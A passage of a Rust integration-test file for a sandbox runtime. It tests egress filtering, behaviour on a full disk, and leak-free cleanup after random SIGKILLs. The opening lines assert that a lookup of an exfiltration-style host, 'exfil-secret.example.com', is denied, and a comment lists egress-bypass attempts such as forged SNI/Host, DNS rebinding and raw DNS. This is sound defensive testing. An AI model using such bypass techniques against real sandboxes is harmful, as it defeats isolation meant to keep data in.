        assert!(has("dns", "deb.debian.org", true), "{backend}: {egress}");
        assert!(has("dns", "example.com", false), "{backend}: {egress}");
        assert!(
            has("dns", "exfil-secret.example.com", false),
            "{backend}: {egress}"
        );
        assert!(
            has("connect", "deb.debian.org", true),
            "{backend}: {egress}"
        );
        assert!(has("connect", "example.com", false), "{backend}: {egress}");
        assert!(
            entries
                .iter()
                .any(|e| e["destination"] == "1.1.1.1:80" && e["allowed"] == false),
            "{backend}: {egress}"
        );
        // The refused tries: a denied name, twice (to the proxy, to a public resolver),
        // a forged Host, an address no answer gave, a forged server name, a rebound name,
        // its address and loopback.
        strata_tests::contained("names: forged SNI/Host, rebinding, raw DNS", backend, 8);
    }
}

/// A small disk of its own, loop-mounted, for a home and a store to fill; unmounted (and
/// its lazyfs daemon and pooled uppers ended) when dropped.
struct SmallDisk {
    dir: std::path::PathBuf,
    home: strata_tests::home::CliHome,
}

impl SmallDisk {
    fn new(store: Option<&std::path::Path>) -> SmallDisk {
        let dir = tempfile::Builder::new()
            .prefix("full-disk-")
            .tempdir_in(strata_tests::scratch_root())
            .expect("tempdir")
            .keep();
        let mnt = dir.join("mnt");
        strata_tests::sh(&format!(
            "truncate -s 256M {d}/disk.img && mkfs.ext4 -q {d}/disk.img && mkdir -p {m} && mount -o loop {d}/disk.img {m}",
            d = dir.display(),
            m = mnt.display()
        ));
        let home = strata_tests::home::CliHome {
            home: mnt.join("home"),
            store: store.map_or_else(|| mnt.join("store"), |s| s.to_path_buf()),
        };
        std::fs::create_dir_all(&home.home).expect("the home");
        SmallDisk { dir, home }
    }

    /// Fills the disk but `left_mib`.
    fn fill(&self, left_mib: u64) {
        let mnt = self.dir.join("mnt");
        strata_tests::sh(&format!(
            "rm -f {m}/ballast; sync; free=$(df -m --output=avail {m} | tail -1); \
             fallocate -l $(( free - {left_mib} ))M {m}/ballast",
            m = mnt.display()
        ));
    }

    fn empty(&self) {
        let _ = std::fs::remove_file(self.dir.join("mnt/ballast"));
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = self.home.cli(&["sandbox", "pool", "--drain"]);
        let _ = self.home.cli(&["lazyfs", "stop"]);
        let mnt = self.dir.join("mnt");
        // The daemon lets go of the disk a moment after `lazyfs stop` answers.
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while std::process::Command::new("umount")
            .arg("-R")
            .arg(&mnt)
            .stderr(std::process::Stdio::null())
            .status()
            .is_ok_and(|s| !s.success())
            && std::time::Instant::now() < deadline
        {
            std::thread::sleep(Duration::from_millis(200));
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// SECURITY.md, "nothing stored is lost": the disk under STRATA_HOME full during a build,
/// cache writes and sandbox writes. A build that runs out of space fails naming the store's
/// disk and what to do, and leaves no layer (verify clean); the same build succeeds once
/// there is room. A sandbox whose layers' chunks cannot be cached still reads them (from
/// the store, verified) and the lazyfs daemon keeps serving; a sandbox is refused, naming
/// its disk budget and the free space, when its upper's writes could not all be kept
/// (sparse images on a full disk lose writes the sandbox was told succeeded); a node
/// service on that disk keeps serving, refuses such a create as RESOURCE_EXHAUSTED, and
/// creates once there is room.
#[test]
fn a_full_disk_under_the_home_gives_clear_errors_and_loses_nothing() {
    let Some((env, _shared)) = env("containment_full_disk") else {
        return;
    };
    // A build into a store on the full disk.
    let disk = SmallDisk::new(None);
    let src = disk.dir.join("src");
    std::fs::create_dir_all(&src).expect("source dir");
    strata_tests::sh(&format!(
        "head -c 48M /dev/urandom > {s}/blob && echo small > {s}/note",
        s = src.display()
    ));
    disk.fill(12);
    let src_arg = src.display().to_string();
    let o = disk.home.cli(&["layer", "build", &src_arg]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{out}{err}");
    assert!(
        err.contains("no space left on the store's disk") && err.contains("strata store gc"),
        "{err}"
    );
    assert_eq!(
        disk.home.ok(&["layer", "ls"]).lines().count(),
        1,
        "a layer was listed"
    );
    let verify = disk.home.ok(&["store", "verify"]);
    assert!(verify.contains("0 problem(s)"), "{verify}");
    disk.empty();
    let layer = disk.home.ok(&["layer", "build", &src_arg]);
    assert!(
        disk.home
            .ok(&["store", "verify"])
            .contains("verified 1 layers"),
        "{layer}"
    );
    drop(disk);

    // A home on the full disk, its store elsewhere.
    let disk = SmallDisk::new(Some(&env.cli.store));
    let home = &disk.home;
    disk.fill(3);
    let o = home.cli(&[
        "run",
        "--backend",
        "fncall",
        "--disk",
        "1M",
        &env.reference,
        "--",
        "python3",
        "-c",
        "import json, email, asyncio, unittest, http.client, sqlite3, decimal; print('read')",
    ]);
    let (out, err) = text(&o);
    assert!(o.status.success() && out.contains("read"), "{out}{err}");
    for backend in ["fncall", "container"] {
        let o = home.cli(&["run", "--backend", backend, &env.reference, "--", "true"]);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(1), "{backend}: {out}{err}");
        assert!(
            err.contains("less than the sandbox's disk budget of 1024 MiB")
                && err.contains("--disk"),
            "{backend}: {err}"
        );
    }
    // A node service on the full disk keeps serving: a create is refused with
    // RESOURCE_EXHAUSTED naming the disk, its health and listings answer, and the same
    // create succeeds once there is room, from the same service process.
    let token = home.project_token(&format!("fulldisk{}", std::process::id()));
    let svc = strata_tests::service::Service::start(home, "");
    let serve_pid = svc.pid();
    let create = format!(
        r#"
import strata
with strata.Client() as c:
    print("health", c.health())
    print("listed", len(c.list()))
    try:
        sb = c.create("{sample}", backend="container", disk="16M")
    except strata.QuotaExceeded as e:
        print("refused", e)
    else:
        print("created", sb.exec("echo served").stdout.strip())
        sb.destroy()
"#,
        sample = env.reference
    );
    let out = strata_tests::service::python_ok(&svc, &token, &create);
    assert!(out.contains("listed 0"), "{out}");
    assert!(
        out.contains("refused") && out.contains("less than the sandbox's disk budget of 16 MiB"),
        "{out}"
    );
    // The lazyfs daemon lived through it, and everything works once there is room.
    let daemon = lazyfs_pid(&home.home).expect("the home's lazyfs daemon");
    disk.empty();
    let out = strata_tests::service::python_ok(&svc, &token, &create);
    assert!(out.contains("created served"), "{out}");
    assert_eq!(svc.pid(), serve_pid);
    assert!(
        std::path::Path::new(&format!("/proc/{serve_pid}")).exists(),
        "the service died"
    );
    drop(svc);
    let o = home.cli(&[
        "run",
        "--backend",
        "fncall",
        "--disk",
        "16M",
        &env.reference,
        "--",
        "sh",
        "-c",
        "echo kept > /root/f && cat /root/f",
    ]);
    let (out, err) = text(&o);
    assert!(o.status.success() && out.contains("kept"), "{out}{err}");
    assert_eq!(
        lazyfs_pid(&home.home),
        Some(daemon),
        "the lazyfs daemon was replaced"
    );
    let sandboxes = home.home.join("runtime/sandboxes").display().to_string();
    let mounts = std::fs::read_to_string("/proc/mounts").expect("mounts");
    assert!(
        !mounts.contains(&sandboxes),
        "a sandbox's mount was left: {mounts}"
    );
    let mnt = disk.dir.join("mnt").display().to_string();
    drop(disk);
    let mounts = std::fs::read_to_string("/proc/mounts").expect("mounts");
    assert!(
        !mounts.contains(&mnt),
        "the small disk stayed mounted: {mounts}"
    );
    // A build, cache writes, a sandbox's writes and a service on the full disk.
    strata_tests::contained("disk full under the home", "faults", 4);
}

/// The host's address on its default route.
fn host_address() -> String {
    let o = std::process::Command::new("ip")
        .args(["-4", "route", "get", "1.1.1.1"])
        .output()
        .expect("ip route get");
    let text = String::from_utf8_lossy(&o.stdout).into_owned();
    let words: Vec<&str> = text.split_whitespace().collect();
    words
        .iter()
        .position(|w| *w == "src")
        .and_then(|i| words.get(i + 1))
        .map(|s| s.to_string())
        .unwrap_or_else(|| "127.0.0.1".into())
}

/// A small deterministic generator (xorshift64*) for the soak's random points; its seed is
/// printed, so a failing run can be run again (`STRATA_SOAK_SEED`).
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// The PIDs (host view) of `init` and every process descended from it.
fn process_tree(init: i32) -> Vec<i32> {
    let mut parents: Vec<(i32, i32)> = Vec::new();
    for p in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(pid) = p.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(p.path().join("stat")) else {
            continue;
        };
        // The command name may hold spaces and parentheses: the fields follow the last ')'.
        let ppid = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().nth(1)?.parse().ok());
        if let Some(ppid) = ppid {
            parents.push((pid, ppid));
        }
    }
    let mut tree = vec![init];
    let mut i = 0;
    while i < tree.len() {
        let parent = tree[i];
        tree.extend(
            parents
                .iter()
                .filter(|(_, pp)| *pp == parent)
                .map(|(p, _)| *p),
        );
        i += 1;
    }
    tree
}

/// What the soak did, counted.
#[derive(Default, Debug)]
struct SoakCounts {
    cycles: usize,
    runs: usize,
    clis_killed: usize,
    processes_killed: usize,
    inits_killed: usize,
    lazyfs_killed: usize,
    services_killed: usize,
    networked: usize,
}

/// The README's "nothing leaks" under SIGKILL: create → exec → destroy cycles on fncall and
/// container (`STRATA_SOAK_CYCLES`, 60 by default; the issue's 1,000 by hand), half of them
/// through a node service, with kills at random points (`STRATA_SOAK_SEED`): the CLI
/// mid-run (its sandbox orphaned), a random process of a sandbox from the host (its init, a
/// command or a command's child: a crash, or a sandbox that must live on and answer), the
/// home's lazyfs daemon (started again by the next command), and the node service itself
/// during a create or a run (started again: what it had is taken back or ended). Some
/// sandboxes are networked (namespace, veth, nftables). After a reap: nothing of any
/// sandbox left (directory, upper image, mount, cgroup, network namespace, veth, nftables
/// chain, loop device, process, OCI state, service record), every audit ends with `ended`
/// and a reason, and `store verify` finds the store intact.
#[test]
fn a_soak_of_killed_cycles_leaks_nothing_and_corrupts_nothing() {
    let Some((env, _shared)) = env("containment_soak") else {
        return;
    };
    let cycles: usize = std::env::var("STRATA_SOAK_CYCLES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(60);
    let seed: u64 = std::env::var("STRATA_SOAK_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| {
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_nanos() as u64)
                .unwrap_or(1)
                | 1
        });
    eprintln!("soak: {cycles} cycles, STRATA_SOAK_SEED={seed}");
    let mut dice = Dice(seed);
    // Homes of their own (their lazyfs daemons are killed), on the shared store: one the
    // CLI uses embedded, one a node service owns.
    let local = env.cli.sharing_store("containment-soak-");
    let node = env.cli.sharing_store("containment-soak-node-");
    let token = node.project_token(&format!("soak{}", std::process::id()));
    // Runs whose client was killed hold their CPUs until destroyed (below) or their idle
    // TTL; room for a few at once on this two-core node.
    let mut svc = strata_tests::service::Service::start(&node, "cpu_overcommit = 32.0\n");
    let client_home =
        strata_tests::scratch_root().join(format!("soak-client-{}", std::process::id()));
    let client = |url: &str, args: &[&str]| {
        let mut c = std::process::Command::new(strata_tests::strata_bin());
        c.args(args)
            .env("STRATA_HOME", &client_home)
            .env("STRATA_STORE", client_home.join("no-store"))
            .env("STRATA_SERVER", url)
            .env("STRATA_TOKEN", &token);
        c
    };
    let client_ok = |url: &str, args: &[&str]| {
        let o = client(url, args).output().expect("strata --server");
        let (out, err) = text(&o);
        if !o.status.success() {
            let log = std::fs::read_to_string(node.home.join("serve.log")).unwrap_or_default();
            let tail: Vec<&str> = log.lines().rev().take(40).collect();
            panic!(
                "strata --server {args:?}: {out}{err}\nservice log (last lines):\n{}",
                tail.into_iter().rev().collect::<Vec<_>>().join("\n")
            );
        }
        out
    };
    // The node's local ID of a service's sandbox (`<node>-<id>`).
    let local_id = |id: &str| id.trim_start_matches("test-").to_string();
    let init_of = |home: &strata_tests::home::CliHome, id: &str| -> i32 {
        let record: serde_json::Value = serde_json::from_slice(
            &std::fs::read(
                home.runtime_dir()
                    .join("sandboxes")
                    .join(id)
                    .join("sandbox.json"),
            )
            .unwrap_or_else(|e| panic!("the record of {id}: {e}")),
        )
        .expect("a sandbox record");
        record["init_pid"].as_i64().expect("its init") as i32
    };
    let mut n = SoakCounts::default();
    for i in 0..cycles {
        let backend = if dice.below(2) == 0 {
            "fncall"
        } else {
            "container"
        };
        let mut create = vec!["--backend", backend];
        if dice.below(4) == 0 {
            // TEST-NET-1: wired (namespace, veth, chains), reaching nothing.
            create.extend(["--net", "198.51.100.1:9"]);
            n.networked += 1;
        }
        let through_service = dice.below(2) == 0;
        let url = svc.url();
        // `strata ARGS` on the embedded home or through the service.
        let cmd = |args: &[&str]| {
            if through_service {
                client(&url, args)
            } else {
                local.cmd(args)
            }
        };
        let ok = |args: &[&str]| {
            if through_service {
                client_ok(&url, args)
            } else {
                local.ok(args)
            }
        };
        let home = if through_service { &node } else { &local };
        let mut run_args = vec!["run"];
        run_args.extend_from_slice(&create);
        run_args.push(&env.reference);
        match dice.below(5) {
            // A whole run.
            0 => {
                run_args.extend(["--", "echo", "ok"]);
                assert_eq!(ok(&run_args), "ok\n", "cycle {i}");
                n.runs += 1;
            }
            // The CLI killed mid-run, at a random point (before or after its sandbox exists).
            1 => {
                run_args.extend(["--", "sleep", "30"]);
                let mut child = cmd(&run_args)
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .expect("strata run");
                std::thread::sleep(Duration::from_millis(20 + dice.below(600)));
                let _ = child.kill();
                let _ = child.wait();
                n.clis_killed += 1;
                if through_service {
                    // A client that died leaves its sandbox to the service (its idle TTL):
                    // destroyed now, as its restarted client would.
                    destroy_all_through(&client_ok, &url);
                }
            }
            // A random process of a running sandbox killed from the host: its init (a
            // crash), or a command or its child (the sandbox lives on and answers).
            2 => {
                let mut args = vec!["sandbox", "create"];
                args.extend_from_slice(&create);
                args.push(&env.reference);
                let id = ok(&args)
                    .lines()
                    .last()
                    .unwrap_or_default()
                    .trim()
                    .to_string();
                ok(&[
                    "sandbox",
                    "exec",
                    &id,
                    "--",
                    "sh",
                    "-c",
                    "sleep 600 >/dev/null 2>&1 & sleep 600 >/dev/null 2>&1 &",
                ]);
                let init = init_of(home, &local_id(&id));
                let tree = process_tree(init);
                let victim = tree[dice.below(tree.len() as u64) as usize];
                // SAFETY: kill(2) of a process of a sandbox this test made.
                unsafe { libc::kill(victim, libc::SIGKILL) };
                if victim == init {
                    n.inits_killed += 1;
                } else {
                    let out = ok(&["sandbox", "exec", &id, "--", "echo", "alive"]);
                    assert_eq!(
                        out, "alive\n",
                        "cycle {i}: after a kill of {victim} (init {init})"
                    );
                    n.processes_killed += 1;
                }
                let _ = cmd(&["sandbox", "rm", &id]).output();
            }
            // The home's lazyfs daemon killed while no sandbox uses it; the next command
            // starts another.
            3 => {
                if let Some(pid) = lazyfs_pid(&home.home) {
                    // SAFETY: kill(2) of this home's lazyfs daemon.
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                    n.lazyfs_killed += 1;
                }
                run_args.extend(["--", "echo", "ok"]);
                assert_eq!(ok(&run_args), "ok\n", "cycle {i} after lazyfs was killed");
            }
            // The node service killed during a create or a run, at a random point, and
            // started again; whatever it had is then destroyed through it.
            _ => {
                let mut args: Vec<&str> = if dice.below(2) == 0 {
                    vec!["sandbox", "create"]
                } else {
                    vec!["run"]
                };
                args.extend_from_slice(&create);
                args.push(&env.reference);
                if args[0] == "run" {
                    args.extend(["--", "sleep", "30"]);
                }
                let mut child = client(&url, &args)
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .expect("strata --server");
                std::thread::sleep(Duration::from_millis(20 + dice.below(800)));
                svc.kill();
                let _ = child.kill();
                let _ = child.wait();
                svc.restart();
                n.services_killed += 1;
                destroy_all_through(&client_ok, &svc.url());
            }
        }
        n.cycles += 1;
    }
    destroy_all_through(&client_ok, &svc.url());
    drop(svc);
    // A sandbox whose maker was killed before its record is reaped once a moment has
    // passed (the runtime's grace for a directory being made).
    std::thread::sleep(Duration::from_secs(6));
    let mut sandboxes = 0;
    for home in [&local, &node] {
        home.ok(&["sandbox", "reap"]);
        sandboxes += assert_nothing_left(home);
        let records = home.runtime_dir().join("service").join("sandboxes");
        let left: Vec<_> = std::fs::read_dir(&records)
            .map(|d| d.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(left.is_empty(), "service records left: {left:?}");
        let verify = home.cli(&["store", "verify", "--json"]);
        assert!(verify.status.success(), "{:?}", text(&verify));
    }
    assert!(
        sandboxes >= cycles / 2,
        "{sandboxes} sandboxes in {cycles} cycles"
    );
    strata_tests::contained(
        "SIGKILLs in create/exec/destroy cycles",
        "faults",
        n.clis_killed + n.processes_killed + n.inits_killed + n.lazyfs_killed + n.services_killed,
    );
    eprintln!(
        "soak: {} cycles (seed {seed}), {sandboxes} sandboxes ({} networked), {} whole runs, {} CLIs killed mid-run, \
         {} sandbox processes and {} inits killed, {} lazyfs daemons and {} node services killed: nothing left, store intact",
        n.cycles, n.networked, n.runs, n.clis_killed, n.processes_killed, n.inits_killed, n.lazyfs_killed, n.services_killed
    );
}

/// Destroys every sandbox the soak's project has on the service at `url`.
fn destroy_all_through(client_ok: &dyn Fn(&str, &[&str]) -> String, url: &str) {
    let list: Vec<serde_json::Value> =
        serde_json::from_str(&client_ok(url, &["sandbox", "ls", "--json"])).expect("ls --json");
    for s in list {
        if let Some(id) = s["id"].as_str() {
            client_ok(url, &["sandbox", "rm", id]);
        }
    }
}

/// Checks that nothing of any sandbox `home` ever had is left on the host, and that each
/// one's audit ends with `ended` and a reason; returns how many there were.
fn assert_nothing_left(home: &strata_tests::home::CliHome) -> usize {
    let audits: Vec<String> = std::fs::read_dir(home.runtime_dir().join("audit"))
        .expect("the audit directory")
        .flatten()
        .filter_map(|e| {
            e.file_name()
                .to_string_lossy()
                .strip_suffix(".jsonl")
                .map(str::to_string)
        })
        .collect();
    let output = |prog: &str, args: &[&str]| {
        String::from_utf8_lossy(
            &std::process::Command::new(prog)
                .args(args)
                .output()
                .unwrap_or_else(|e| panic!("{prog}: {e}"))
                .stdout,
        )
        .into_owned()
    };
    // Pooled uppers are the home's, not a sandbox's: given back first.
    home.ok(&["sandbox", "pool", "--drain"]);
    let namespaces = output("ip", &["netns", "list"]);
    let links = output("ip", &["-o", "link", "show"]);
    let rules = output("nft", &["list", "table", "inet", "strata"]);
    let home_path = home.home.display().to_string();
    // The kernel detaches an auto-clearing loop device a moment after its last unmount
    // (asynchronously since Linux 5.19): give it that moment.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let mut loops = output("losetup", &["-a"]);
    while loops.contains(&home_path) && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
        loops = output("losetup", &["-a"]);
    }
    if loops.contains(&home_path) {
        // Who still has them mounted (a mount namespace that copied them keeps them).
        let devices: Vec<&str> = loops
            .lines()
            .filter(|l| l.contains(&home_path))
            .filter_map(|l| l.split(':').next())
            .collect();
        let mut holders = Vec::new();
        for p in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Ok(info) = std::fs::read_to_string(p.path().join("mountinfo")) else {
                continue;
            };
            if devices.iter().any(|d| info.contains(&format!(" {d} "))) {
                let cmd = std::fs::read(p.path().join("cmdline")).unwrap_or_default();
                holders.push(format!(
                    "{}: {}",
                    p.file_name().to_string_lossy(),
                    String::from_utf8_lossy(&cmd).replace('\0', " ")
                ));
            }
        }
        let mine = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
        let lines: Vec<&str> = mine
            .lines()
            .filter(|l| devices.iter().any(|d| l.contains(&format!(" {d} "))))
            .collect();
        holders.truncate(3);
        let uppers: Vec<String> = lines
            .iter()
            .filter_map(|l| l.split_whitespace().nth(4)?.rsplit_once("/uppers/"))
            .map(|(_, id)| {
                let dir = home.runtime_dir().join("sandboxes").join(id);
                let ender = std::fs::read_to_string(dir.join("ending")).unwrap_or_default();
                let pid = ender.split_whitespace().next().unwrap_or("0").to_string();
                let lock = dir.join("lock");
                let lockers: Vec<String> = std::fs::read_dir("/proc")
                    .into_iter()
                    .flatten()
                    .flatten()
                    .filter(|p| {
                        std::fs::read_dir(p.path().join("fd")).is_ok_and(|fds| {
                            fds.flatten()
                                .any(|fd| std::fs::read_link(fd.path()).is_ok_and(|t| t == lock))
                        })
                    })
                    .map(|p| {
                        let cmd = std::fs::read(p.path().join("cmdline")).unwrap_or_default();
                        format!(
                            "{} {}",
                            p.file_name().to_string_lossy(),
                            String::from_utf8_lossy(&cmd).replace('\0', " ")
                        )
                    })
                    .collect();
                let ender_info = ["cmdline", "wchan", "stack"]
                    .map(|f| {
                        String::from_utf8_lossy(
                            &std::fs::read(format!("/proc/{pid}/{f}")).unwrap_or_default(),
                        )
                        .replace('\0', " ")
                    })
                    .join(" | ");
                format!(
                    "{id}: ender {ender} {ender_info}\nlock held by: {lockers:?}\ndirectory {}, audit {}\nfiles: {}\nrecord: {}",
                    if dir.exists() { "exists" } else { "gone" },
                    String::from_utf8_lossy(&home.cli(&["sandbox", "audit", id]).stdout),
                    strata_tests::sh(&format!(
                        "find {} -maxdepth 2 -printf '%p %TT\\n' 2>&1 | head -40",
                        dir.display()
                    )),
                    std::fs::read_to_string(dir.join("sandbox.json")).unwrap_or_default()
                )
            })
            .collect();
        let reap = home
            .cmd(&["sandbox", "reap"])
            .env("STRATA_LOG", "debug")
            .output()
            .expect("sandbox reap");
        let pool = strata_tests::sh(&format!(
            "cd {} && find . -type f -printf '%p %TT %CT: ' -exec cat {{}} \\; 2>&1 | head -40",
            home.runtime_dir().join("upper-pool").display()
        ));
        panic!(
            "loop devices of {home_path} left: {loops}\nmounted here as: {lines:#?}\nin: {holders:#?}\nsandboxes: {uppers:#?}\npool marks: {pool}\nreap again: {} {}",
            String::from_utf8_lossy(&reap.stdout),
            String::from_utf8_lossy(&reap.stderr)
        );
    }
    for id in &audits {
        let dir = home.runtime_dir().join("sandboxes").join(id);
        if dir.exists() {
            let files: Vec<String> = std::fs::read_dir(&dir)
                .map(|d| {
                    d.flatten()
                        .map(|e| e.file_name().to_string_lossy().into_owned())
                        .collect()
                })
                .unwrap_or_default();
            panic!(
                "sandbox {id} left: {files:?}\naudit: {}\nls: {}",
                home.ok(&["sandbox", "audit", id]),
                home.ok(&["sandbox", "ls", "--json"])
            );
        }
        home.assert_sandbox_gone(id, &[]);
        assert!(!namespaces.contains(id.as_str()), "netns of {id} left");
        assert!(!links.contains(&format!("sv{id}")), "veth of {id} left");
        assert!(
            !rules.contains(&format!("sb_{id}")),
            "nftables chain of {id} left"
        );
        let audit = home.ok(&["sandbox", "audit", id]);
        let last: serde_json::Value = audit
            .lines()
            .rev()
            .find_map(|l| serde_json::from_str(l).ok())
            .unwrap_or_else(|| panic!("{id}: empty audit"));
        assert_eq!(last["event"], "ended", "{id}: {audit}");
        assert!(last["reason"].is_string(), "{id}: {audit}");
    }
    let left = strata_tests::home::sandboxes_in(&home.home);
    assert!(left.is_empty(), "{left:?}");
    audits.len()
}

/// The lazyfs daemon of `home`: the process holding its lock file open.
fn lazyfs_pid(home: &std::path::Path) -> Option<i32> {
    let lock = home.join("lazyfs/run/daemon.lock");
    for p in std::fs::read_dir("/proc").ok()?.flatten() {
        let Ok(pid) = p.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let Ok(fds) = std::fs::read_dir(p.path().join("fd")) else {
            continue;
        };
        if fds
            .flatten()
            .any(|fd| std::fs::read_link(fd.path()).is_ok_and(|t| t == lock))
        {
            return Some(pid);
        }
    }
    None
}
